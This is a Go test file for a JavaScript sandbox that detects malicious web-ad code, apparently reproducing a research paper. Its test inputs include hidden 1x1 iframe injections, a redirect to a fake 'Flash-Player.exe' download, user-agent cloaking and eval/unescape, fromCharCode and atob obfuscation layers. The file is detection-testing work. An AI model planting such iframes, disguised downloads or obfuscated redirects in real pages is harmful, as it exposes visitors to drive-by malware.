package jsengine

import (
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/testutil"
)

func mustTrace(t *testing.T, src string) *Trace {
	t.Helper()
	tr, err := execute(src)
	if err != nil {
		t.Fatalf("Execute error: %v\nsource:\n%s", err, src)
	}
	return tr
}

func TestBasicArithmeticAndVars(t *testing.T) {
	tr := mustTrace(t, `
var a = 2 + 3 * 4;
var b = "x" + a;
document.write(b);
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "x14" {
		t.Fatalf("writes = %v, want [x14]", tr.Writes)
	}
}

func TestDocumentWriteIframe(t *testing.T) {
	// The paper's Code 3 shape: dynamically loaded iframe.
	tr := mustTrace(t, `
document.write('<iframe allowtransparency="true" scrolling="no" frameborder="0" width="1" height="1" src="http://t.qservz.com/ai.aspx?tc=407c"></iframe>');
`)
	frames := tr.InjectedIframes()
	if len(frames) != 1 {
		t.Fatalf("injected iframes = %v", frames)
	}
	if !strings.Contains(frames[0], "t.qservz.com") {
		t.Fatalf("iframe content lost: %q", frames[0])
	}
}

func TestWindowLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `window.location.href = "http://www.broadstoragewindow.com/c?x=3yqY&downloadAs=Flash-Player.exe";`)
	if len(tr.Navigations) != 1 {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
	if len(tr.Downloads) != 1 {
		t.Fatalf("downloads = %v (an .exe navigation is a download)", tr.Downloads)
	}
}

func TestBareLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `location = "http://evil.example/landing";`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://evil.example/landing" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestDocumentLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `document.location = "http://evil.example/x";`)
	if len(tr.Navigations) != 1 {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestEvalUnescapeOneLayer(t *testing.T) {
	payload := `document.write('<iframe src="http://evil.example/i" width="1" height="1"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`
	tr := mustTrace(t, obf)
	if tr.Evals != 1 || tr.EvalDepth != 1 {
		t.Fatalf("evals=%d depth=%d", tr.Evals, tr.EvalDepth)
	}
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("obfuscated payload not executed: %+v", tr)
	}
}

func TestEvalNestedLayers(t *testing.T) {
	payload := `window.location.href = "http://final.example/";`
	layer1 := `eval(unescape("` + Escape(payload) + `"));`
	layer2 := `eval(unescape("` + Escape(layer1) + `"));`
	layer3 := `eval(unescape("` + Escape(layer2) + `"));`
	tr := mustTrace(t, layer3)
	if tr.EvalDepth != 3 {
		t.Fatalf("EvalDepth = %d, want 3", tr.EvalDepth)
	}
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://final.example/" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestFromCharCodeDeobfuscation(t *testing.T) {
	payload := `document.write("<iframe src='http://c.example/x'></iframe>");`
	var parts []string
	for i := 0; i < len(payload); i++ {
		parts = append(parts, itoa(int(payload[i])))
	}
	src := `eval(String.fromCharCode(` + strings.Join(parts, ",") + `));`
	tr := mustTrace(t, src)
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("fromCharCode payload not executed: %+v", tr)
	}
}

func itoa(v int) string {
	if v == 0 {
		return "0"
	}
	var b [8]byte
	i := len(b)
	for v > 0 {
		i--
		b[i] = byte('0' + v%10)
		v /= 10
	}
	return string(b[i:])
}

func TestAtobDeobfuscation(t *testing.T) {
	tr := mustTrace(t, `eval(atob("d2luZG93LmxvY2F0aW9uLmhyZWYgPSAiaHR0cDovL2IuZXhhbXBsZS8iOw=="));`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://b.example/" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestExternalInterfaceCalls(t *testing.T) {
	// The paper's Code 6 glue, as seen from the JS side.
	tr := mustTrace(t, `
ExternalInterface.call("AdFlash.onClick");
ExternalInterface.call("window.NqPnfu");
`)
	if len(tr.ExternalCalls) != 2 {
		t.Fatalf("external calls = %v", tr.ExternalCalls)
	}
	if tr.ExternalCalls[0] != "AdFlash.onClick" {
		t.Fatalf("first call = %q", tr.ExternalCalls[0])
	}
}

func TestWindowOpenPopup(t *testing.T) {
	tr := mustTrace(t, `window.open("http://ads.example/pop?id=1");`)
	if len(tr.Popups) != 1 || !strings.Contains(tr.Popups[0], "ads.example") {
		t.Fatalf("popups = %v", tr.Popups)
	}
}

func TestFingerprintingDetection(t *testing.T) {
	tr := mustTrace(t, `
var ua = navigator.userAgent;
var w = screen.width;
document.addEventListener("mousemove", function() { track(); });
`)
	if len(tr.FingerprintReads) < 3 {
		t.Fatalf("fingerprint reads = %v, want >= 3", tr.FingerprintReads)
	}
}

func TestEventHandlerPayloadFires(t *testing.T) {
	// Mouse handlers that open popups must have their payload traced.
	tr := mustTrace(t, `
addEventListener("mousedown", function() {
  window.open("http://pop.example/");
});
`)
	if len(tr.Popups) != 1 {
		t.Fatalf("handler payload not fired: %+v", tr)
	}
}

func TestSetTimeoutStringExecutes(t *testing.T) {
	tr := mustTrace(t, `setTimeout('document.write("<iframe src=\'http://x.example\'></iframe>")', 100);`)
	if tr.Timeouts != 1 || len(tr.InjectedIframes()) != 1 {
		t.Fatalf("timeouts=%d writes=%v", tr.Timeouts, tr.Writes)
	}
}

func TestSetTimeoutFunctionExecutes(t *testing.T) {
	tr := mustTrace(t, `setTimeout(function() { window.open("http://pop.example/"); }, 50);`)
	if len(tr.Popups) != 1 {
		t.Fatalf("popups = %v", tr.Popups)
	}
}

func TestUserFunctions(t *testing.T) {
	tr := mustTrace(t, `
function buildUrl(host, path) {
  return "http://" + host + "/" + path;
}
window.location.href = buildUrl("evil.example", "landing?x=1");
`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://evil.example/landing?x=1" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestIfElseBranching(t *testing.T) {
	tr := mustTrace(t, `
var x = 5;
if (x > 3) { document.write("big"); } else { document.write("small"); }
if (x == "5") { document.write("loose"); }
`)
	if len(tr.Writes) != 2 || tr.Writes[0] != "big" || tr.Writes[1] != "loose" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestCloakingConditional(t *testing.T) {
	// Environment-sensitive malware: only fires for non-bot UAs. Our
	// sandbox reports a browser-like UA so the payload fires (Rozzle-style
	// de-cloaking would explore both paths; we pick the browser path).
	tr := mustTrace(t, `
if (navigator.userAgent.indexOf("bot") == -1) {
  document.write('<iframe src="http://hidden.example/"></iframe>');
}
`)
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("cloaked payload did not fire: %+v", tr)
	}
	if len(tr.FingerprintReads) == 0 {
		t.Fatal("navigator.userAgent read not recorded")
	}
}

func TestStringMethods(t *testing.T) {
	tr := mustTrace(t, `
var s = "HELLO world";
document.write(s.toLowerCase());
document.write(s.substring(0, 5));
document.write(s.charAt(6));
document.write(s.replace("world", "there"));
document.write(s.indexOf("world"));
document.write(s.split(" ")[1]);
`)
	want := []string{"hello world", "HELLO", "w", "HELLO there", "6", "world"}
	if len(tr.Writes) != len(want) {
		t.Fatalf("writes = %v", tr.Writes)
	}
	for i := range want {
		if tr.Writes[i] != want[i] {
			t.Errorf("write[%d] = %q, want %q", i, tr.Writes[i], want[i])
		}
	}
}

func TestCharCodeRoundTrip(t *testing.T) {
	f := func(payload string) bool {
		if len(payload) == 0 || len(payload) > 64 {
			return true
		}
		// Keep ASCII printable to avoid rune/byte mismatches in this
		// byte-oriented round trip.
		for i := 0; i < len(payload); i++ {
			if payload[i] < 32 || payload[i] > 126 {
				return true
			}
		}
		esc := Escape(payload)
		tr, err := execute(`document.write(unescape("` + esc + `"));`)
		if err != nil {
			return false
		}
		return len(tr.Writes) == 1 && tr.Writes[0] == payload
	}
	if err := quick.Check(f, testutil.QuickConfig(t, 200)); err != nil {
		t.Fatal(err)
	}
}

func TestEvalDepthLimit(t *testing.T) {
	// Build a 20-deep eval tower; execution must stop at the depth cap
	// with an error, not hang or recurse forever.
	src := `document.write("done");`
	for i := 0; i < 20; i++ {
		src = `eval(unescape("` + Escape(src) + `"));`
	}
	_, err := execute(src)
	if err == nil {
		t.Fatal("expected eval depth error")
	}
}

func TestStepLimit(t *testing.T) {
	// A recursion bomb must hit the step limiter.
	_, err := execute(`
function f() { return f(); }
f();
`)
	if err == nil {
		t.Fatal("expected step-limit error on unbounded recursion")
	}
}

func TestParseErrorsDontPanic(t *testing.T) {
	cases := []string{
		"",
		"var",
		"var = 3",
		"}{",
		"if (",
		"((((((",
		"document.write(",
		`"unterminated`,
		"@#$%^&",
		"a.b.c.d.e.f = =",
	}
	for _, src := range cases {
		if _, err := execute(src); err == nil {
			// Some of these parse to empty programs, which is fine; the
			// requirement is only no panic.
			continue
		}
	}
}

func TestUnknownAPIsAreNoOps(t *testing.T) {
	tr := mustTrace(t, `
jQuery("#x").hide();
ga('create', 'UA-54970982-1', 'auto');
ga('send', 'pageview');
document.write("survived");
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "survived" {
		t.Fatalf("writes = %v; unknown APIs must not abort execution", tr.Writes)
	}
}

func TestGoogleAnalyticsFalsePositiveShape(t *testing.T) {
	// The paper's Code 8: the GA loader must execute cleanly and produce
	// no malicious trace events.
	tr := mustTrace(t, `
(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.google-analytics.com/analytics.js','ga');
ga('create', 'UA-54970982-1', 'auto');
ga('send', 'pageview');
`)
	if len(tr.Writes) != 0 || len(tr.Navigations) != 0 || len(tr.Popups) != 0 {
		t.Fatalf("GA snippet produced malicious-looking trace: %+v", tr)
	}
}

func TestVarCommaList(t *testing.T) {
	tr := mustTrace(t, `var a = 1, b = 2, c = a + b; document.write(c);`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "3" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTernary(t *testing.T) {
	tr := mustTrace(t, `var x = 1 > 0 ? "yes" : "no"; document.write(x);`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "yes" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestArraysAndIndexing(t *testing.T) {
	tr := mustTrace(t, `
var hosts = ["a.example", "b.example", "c.example"];
document.write(hosts[1]);
document.write(hosts.length);
`)
	if len(tr.Writes) != 2 || tr.Writes[0] != "b.example" || tr.Writes[1] != "3" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestStaticScanObfuscationSignals(t *testing.T) {
	payload := `document.write('<iframe src="http://x/"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`
	r := StaticScan(obf)
	if !r.HasEval || !r.HasUnescape {
		t.Fatalf("static scan missed eval/unescape: %+v", r)
	}
	if !r.Obfuscated() {
		t.Fatalf("Obfuscated() = false for eval+unescape: %+v", r)
	}
	plain := StaticScan(`var x = 1 + 2; console.log(x);`)
	if plain.Obfuscated() {
		t.Fatalf("plain code flagged obfuscated: %+v", plain)
	}
}

func TestStaticScanLocationAndWrite(t *testing.T) {
	r := StaticScan(`window.location.href = "http://a/"; document.write('<iframe src="x">');`)
	if !r.SetsLocation {
		t.Fatal("SetsLocation not detected")
	}
	if !r.WritesMarkup {
		t.Fatal("WritesMarkup not detected")
	}
	r2 := StaticScan(`var x = location.hostname;`)
	if r2.SetsLocation {
		t.Fatal("location read misflagged as assignment")
	}
}

func TestStaticScanExternalInterface(t *testing.T) {
	r := StaticScan(`ExternalInterface.call("AdFlash.onClick");`)
	if !r.ExternalInterface {
		t.Fatal("ExternalInterface not detected")
	}
}

func TestEntropyOrdering(t *testing.T) {
	plain := `var total = 0; for each item, add the item to the total and write it out;`
	var packedBytes []byte
	for i := 0; i < 512; i++ {
		packedBytes = append(packedBytes, byte(i*37+11)) // covers all 256 values
	}
	packed := string(packedBytes)
	if Entropy(plain) >= Entropy(packed) {
		t.Fatalf("entropy(plain)=%v >= entropy(packed)=%v", Entropy(plain), Entropy(packed))
	}
	if Entropy("") != 0 {
		t.Fatal("entropy of empty string must be 0")
	}
}

func TestAnalyzeStaticOnlyMissesObfuscatedBehaviour(t *testing.T) {
	// This asymmetry is the point of the sandbox ablation: the payload
	// URL appears in no static token, only in the dynamic trace.
	payload := `document.write('<iframe src="http://deep-hidden.example/x" width="1"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`

	static := Analyze(obf, Options{Sandbox: false})
	if static.Trace != nil {
		t.Fatal("static-only analysis must not produce a trace")
	}
	if strings.Contains(obf, "deep-hidden.example") {
		t.Fatal("test is broken: URL visible in source")
	}

	dyn := Analyze(obf, Options{Sandbox: true})
	if dyn.Trace == nil || len(dyn.Trace.InjectedIframes()) != 1 {
		t.Fatalf("sandbox analysis missed the injected iframe: %+v", dyn)
	}
}

func TestExecuteDeterministic(t *testing.T) {
	src := `
var u = "http://h" + Math.floor(Math.random() * 100) + ".example/";
window.open(u);
`
	tr1 := mustTrace(t, src)
	tr2 := mustTrace(t, src)
	if tr1.Popups[0] != tr2.Popups[0] {
		t.Fatalf("sandbox not deterministic: %q vs %q", tr1.Popups[0], tr2.Popups[0])
	}
}

func BenchmarkExecutePlain(b *testing.B) {
	src := `
var parts = ["a", "b", "c", "d"];
var out = "";
out = out + parts[0] + parts[1] + parts[2] + parts[3];
document.write("<div>" + out + "</div>");
`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := execute(src); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkExecuteObfuscated3Layers(b *testing.B) {
	src := `document.write('<iframe src="http://x.example/"></iframe>');`
	for i := 0; i < 3; i++ {
		src = `eval(unescape("` + Escape(src) + `"));`
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := execute(src); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkStaticScan(b *testing.B) {
	src := `eval(unescape("` + Escape(`document.write('<iframe src="http://x/">');`) + `"));`
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		StaticScan(src)
	}
}

// execute runs src in a fresh sandbox under the default budget.
func execute(src string) (*Trace, error) {
	return ExecuteBudget(src, DefaultBudget())
}
